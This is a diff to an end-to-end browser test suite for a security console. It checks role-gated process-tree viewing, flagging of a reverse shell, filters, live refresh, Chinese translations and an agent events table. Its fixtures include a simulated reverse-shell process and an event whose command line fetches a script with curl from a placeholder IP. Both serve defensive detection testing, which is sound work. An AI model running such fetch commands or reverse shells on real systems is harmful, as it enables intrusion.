@@ -5,8 +5,9 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openBrowser, type Browser } from './browser';
 import { fakeToken, fakeUser, fakeViewerToken, liveAgent, startFakeServer } from './fake-server.mjs';
+import { makeProcesses, reverseShell } from './fixtures-host.mjs';
 import { runScenario, signIn } from './scenario';
-import { apiRequest } from './steps';
+import { apiRequest, until } from './steps';
 import { screenshotDir } from './shots';
 
 const distIndex = new URL('../../internal/center/console/dist/index.html', import.meta.url);
@@ -81,6 +82,13 @@ describe('console against the fake API', () => {
     await drawer.locator('[data-testid=agent-policy]').waitFor();
     expect(await drawer.locator('[data-testid=edit-labels]').isDisabled()).toBe(true);
     expect(await drawer.locator('[data-testid=delete-agent]').count()).toBe(0);
+    // The process tree needs the analyst role: said before anything is sent.
+    await drawer.locator('[data-tab=processes]').click();
+    await expect.poll(() => drawer.locator('[data-testid=processes-forbidden]').textContent()).toContain('Needs role analyst');
+    expect(await drawer.locator('[data-testid=processes-forbidden]').textContent()).toContain('you have the viewer role');
+    if (shots.always) await page.screenshot({ path: join(shots.dir, 'viewer-processes.png') });
+    await drawer.locator('[data-tab=events]').click();
+    await drawer.locator('[data-testid=agent-events-table]').waitFor();
     await page.keyboard.press('Escape');
     await page.click('[data-testid=open-command]');
     const cmd = page.locator('[data-testid=command-drawer]');
@@ -151,6 +159,143 @@ describe('console against the fake API', () => {
     await drawer.locator('button[data-command=status]').click();
     await expect.poll(() => drawer.locator('[data-testid=command-result] .result').getAttribute('data-ok')).toBe('true');
     if (shots.always) await page.screenshot({ path: join(shots.dir, 'agent-plugins.png') });
+    await page.close();
+  });
+
+  it("shows an agent's live process tree and its events, in both languages", async () => {
+    const page = await browser.context.newPage();
+    const agentId = '7f1c2a9e-0001';
+    const isProcesses = (_: URL, r: { postDataJSON: () => unknown }) => (r.postDataJSON() as { command?: string }).command === 'processes';
+    const processCalls = () => server.requests.filter((r) => r.method === 'POST' && r.path === '/agents/commands' && (r.body as { command?: string })?.command === 'processes').length;
+    await page.goto(`${server.url}/agents/${agentId}`);
+    await signIn(page, { token: fakeToken });
+    const drawer = page.locator('[data-testid=agent-drawer]');
+    await drawer.locator('[data-testid=plugins-table]').waitFor();
+
+    // The tab sends "processes" to this agent alone, and is kept in the URL.
+    const [req] = await Promise.all([page.waitForRequest(apiRequest('POST', '/agents/commands', isProcesses)), drawer.locator('[data-tab=processes]').click()]);
+    expect(req.postDataJSON()).toMatchObject({ command: 'processes', agent_ids: [agentId] });
+    await page.waitForURL((u) => u.pathname === `/agents/${agentId}` && u.searchParams.get('tab') === 'processes');
+    const tree = drawer.locator('[data-testid=process-tree]');
+    await tree.waitFor();
+    const total = makeProcesses(Date.now(), agentId).length;
+    await expect.poll(() => drawer.locator('[data-testid=process-count]').textContent()).toBe(`${total} processes · ${total} shown`);
+    expect(await drawer.locator('[data-testid=processes-meta]').textContent()).toContain('process table from ebpf');
+
+    // The reverse shell stands out, in the tree and above it.
+    const shell = tree.locator(`tr[data-pid="${reverseShell.pid}"]`);
+    expect(await shell.getAttribute('data-risk')).toBe('reverse-shell');
+    expect(await shell.locator('.proc-risk').textContent()).toContain('Reverse shell');
+    const risks = drawer.locator('[data-testid=process-risks]');
+    expect(await risks.locator('.proc-alert-danger').textContent()).toContain(`stdin, stdout, stderr: tcp ${reverseShell.local} → ${reverseShell.remote}`);
+    // A service writing to the journal (unix socket) is not flagged.
+    expect(await tree.locator('tr[data-pid="640"]').getAttribute('data-risk')).toBeNull();
+    // sudo runs as root for alice: a privilege change.
+    expect(await tree.locator('tr[data-pid="40410"] [data-priv=true]').count()).toBe(1);
+    if (shots.always) await page.screenshot({ path: join(shots.dir, 'processes.png') });
+
+    // Collapse and expand sshd; open the shell's details.
+    await tree.locator('tr[data-pid="811"] button.proc-toggle').click();
+    await expect.poll(() => shell.count()).toBe(0);
+    expect(await tree.locator('tr[data-pid="811"]').getAttribute('aria-expanded')).toBe('false');
+    await tree.locator('tr[data-pid="811"] button.proc-toggle').click();
+    await shell.waitFor();
+    await shell.click();
+    const detail = tree.locator('[data-testid=process-detail]');
+    await expect.poll(() => detail.textContent()).toContain(`stdin: tcp ${reverseShell.local} → ${reverseShell.remote}`);
+    expect(await detail.textContent()).toContain('/home/alice');
+    expect(await detail.locator('[data-testid=process-ancestry]').textContent()).toContain('systemd (1) › sshd (811) › sshd (40211) › sshd (40230) › bash (40231) › bash (40377)');
+    if (shots.always) await page.screenshot({ path: join(shots.dir, 'process-detail.png') });
+
+    // The filter keeps the matches and their ancestors.
+    const filter = drawer.locator('input[name=process-filter]');
+    await filter.fill('nginx');
+    await expect.poll(() => drawer.locator('[data-testid=process-count]').textContent()).toBe(`${total} processes · 6 shown · 5 matching`);
+    expect(await tree.locator('tbody tr.proc-row').evaluateAll((rows) => rows.map((r) => (r as HTMLElement).dataset.pid))).toEqual(['1', '1180', '1181', '1182', '1183', '1184']);
+    expect(await tree.locator('tr.proc-context').count()).toBe(1);
+    await filter.fill('40410');
+    await expect.poll(() => tree.locator('tbody tr.proc-row').count()).toBe(9);
+    expect(await tree.locator('tr[data-pid="40410"] mark').textContent()).toBe('40410');
+    await filter.fill('');
+    // "Show" on the warning filters to the shell.
+    await risks.locator('.proc-alert-danger button').click();
+    await expect.poll(() => filter.inputValue()).toBe(String(reverseShell.pid));
+    await filter.fill('');
+
+    // Live: refreshes by itself, and keeps closed processes closed.
+    await tree.locator('tr[data-pid="1180"] button.proc-toggle').click();
+    await expect.poll(() => tree.locator('tr[data-pid="1181"]').count()).toBe(0);
+    const before = processCalls();
+    await drawer.locator('[data-testid=live-switch]').click();
+    await until(() => processCalls() >= before + 2, 'two refreshes of the live process tree', 30_000);
+    await until(async () => (await drawer.locator('[data-testid=refresh-processes]').isEnabled()), 'the refresh to end', 20_000);
+    expect(await tree.locator('tr[data-pid="1181"]').count()).toBe(0);
+    expect(await tree.locator('tr[data-pid="1180"]').getAttribute('aria-expanded')).toBe('false');
+    // Closing the drawer stops it: no request in more than an interval
+    // (counted once a request sent just before closing has landed).
+    await page.keyboard.press('Escape');
+    await drawer.waitFor({ state: 'detached' });
+    await page.waitForTimeout(500);
+    const closedAt = processCalls();
+    await page.waitForTimeout(6000);
+    expect(processCalls()).toBe(closedAt);
+
+    // An agent that is not connected: its error, in words.
+    await page.goto(`${server.url}/agents/7f1c2a9e-0003?tab=processes`);
+    await expect.poll(() => drawer.locator('[data-testid=processes-error]').getAttribute('data-error')).toBe('agent offline');
+    expect(await drawer.locator('[data-testid=processes-error]').textContent()).toContain('The agent is offline.');
+    await page.keyboard.press('Escape');
+    await drawer.waitFor({ state: 'detached' });
+
+    // In Chinese.
+    await page.click('.topbar .lang-switch button:has-text("中文")');
+    await page.goto(`${server.url}/agents/${agentId}?tab=processes`);
+    await tree.waitFor();
+    expect(await drawer.locator('[data-tab=processes]').textContent()).toBe('进程');
+    await expect.poll(() => drawer.locator('[data-testid=process-count]').textContent()).toBe(`共 ${total} 个进程 · 显示 ${total} 个`);
+    expect(await shell.locator('.proc-risk').textContent()).toContain('反弹 Shell');
+    expect(await tree.locator('thead').textContent()).toContain('命令行');
+    expect(await risks.locator('.proc-alert-danger strong').textContent()).toBe('疑似反弹 Shell');
+    if (shots.always) await page.screenshot({ path: join(shots.dir, 'processes-zh.png') });
+
+    // The agent's events: the newest page, then new ones as they come.
+    const [first] = await Promise.all([
+      page.waitForRequest(apiRequest('GET', '/events', (u) => u.searchParams.get('agent_id') === agentId)),
+      drawer.locator('[data-tab=events]').click(),
+    ]);
+    expect(new URL(first.url()).searchParams.get('limit')).toBe('50');
+    const events = drawer.locator('[data-testid=agent-events-table]');
+    await events.waitFor();
+    expect(await drawer.locator('[data-testid=event-count]').textContent()).toBe('50 条事件');
+    expect(await events.locator('thead').textContent()).toContain('类别 / 动作');
+    server.addEvent({
+      '@timestamp': new Date().toISOString(),
+      event: { id: 'hev-live-1', kind: 'event', category: 'process', action: 'exec' },
+      process: { pid: 40999, executable: '/usr/bin/curl', command_line: 'curl -s http://203.0.113.9/x.sh' },
+      message: 'bash (pid 40377) executed /usr/bin/curl',
+      agent: { id: agentId },
+      host: { name: 'web-01' },
+    });
+    await until(async () => (await events.locator('tbody tr[data-event-id]').first().getAttribute('data-event-id')) === 'hev-live-1', 'the new event on top', 30_000);
+    expect(server.requests.some((r) => r.path === '/events' && r.query.agent_id?.[0] === agentId && r.query.order?.[0] === 'asc')).toBe(true);
+
+    // The category filter.
+    const [filtered] = await Promise.all([
+      page.waitForRequest(apiRequest('GET', '/events', (u) => u.searchParams.get('category') === 'network')),
+      drawer.locator('[data-testid=event-category]').selectOption('network'),
+    ]);
+    expect(new URL(filtered.url()).searchParams.get('agent_id')).toBe(agentId);
+    await until(async () => {
+      const cats = await events.locator('tbody tr[data-event-id]').evaluateAll((rows) => rows.map((r) => (r as HTMLElement).dataset.category));
+      return cats.length > 0 && cats.every((c) => c === 'network');
+    }, 'only network events');
+    expect(await drawer.locator('[data-testid=event-category] option:checked').textContent()).toBe('网络');
+    await events.locator('tr[data-event-id="hev-0006"]').click();
+    await expect.poll(() => events.locator('tr.expanded .json-body').textContent()).toContain('connection-attempted');
+    if (shots.always) await page.screenshot({ path: join(shots.dir, 'agent-events-zh.png') });
+    await page.keyboard.press('Escape');
+    await drawer.waitFor({ state: 'detached' });
+    await page.click('.topbar .lang-switch button:has-text("English")');
     await page.close();
   });
 
